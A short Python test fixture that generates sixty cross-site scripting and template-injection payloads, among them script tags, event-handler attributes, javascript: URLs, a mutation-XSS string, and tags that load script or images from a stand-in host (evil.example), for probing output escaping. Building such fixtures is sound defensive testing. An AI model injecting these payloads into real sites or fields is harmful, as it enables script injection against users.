"""Sixty texts that want to run: for every field, popup and page (T7, T8)."""

MARKERS = [
    "<script>alert({n})</script>",
    '"><img src=x onerror=alert({n})>',
    "'><svg onload=alert({n})>",
    "</script><script>alert({n})</script>",
    "</title><script src=//evil.example/{n}.js></script>",
    "${{alert({n})}}",
    "`${{alert({n})}}`",
    "{{{{7*7}}}} {n}",
    "{{% raw %}}{n}",
    "javascript:alert({n})",
    "<iframe srcdoc='<script>parent.alert({n})</script>'>",
    "<a href=javascript:alert({n})>x</a>",
    "--><script>alert({n})</script>",
    "<style>*{{background:url(//evil.example/{n})}}</style>",
    "<img src=//evil.example/{n}.png>",
    "\\u003cscript\\u003ealert({n})\\u003c/script\\u003e",
    "&lt;img src=x onerror=alert({n})&gt;",
    "');alert({n});//",
    "<math><mtext></mtext><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert({n}) src=1>'>",
    "한글 <b onmouseover=alert({n})>이름</b>",
]
HOSTILE = [marker.format(n=number) for number, marker in enumerate(MARKERS * 3)]
#: A hostile text that can be found again wherever it is shown: breaks out of attributes, scripts, templates, comments.
TRACED = "\"'><xss-{n}><img src=x onerror=alert({n})>{{{{7*7}}}}</script><!--`${{alert({n})}}"


def traced(number: int) -> str:
    """The hostile text of this number; raw, its tag would read <xss-number>."""
    return TRACED.format(n=number)
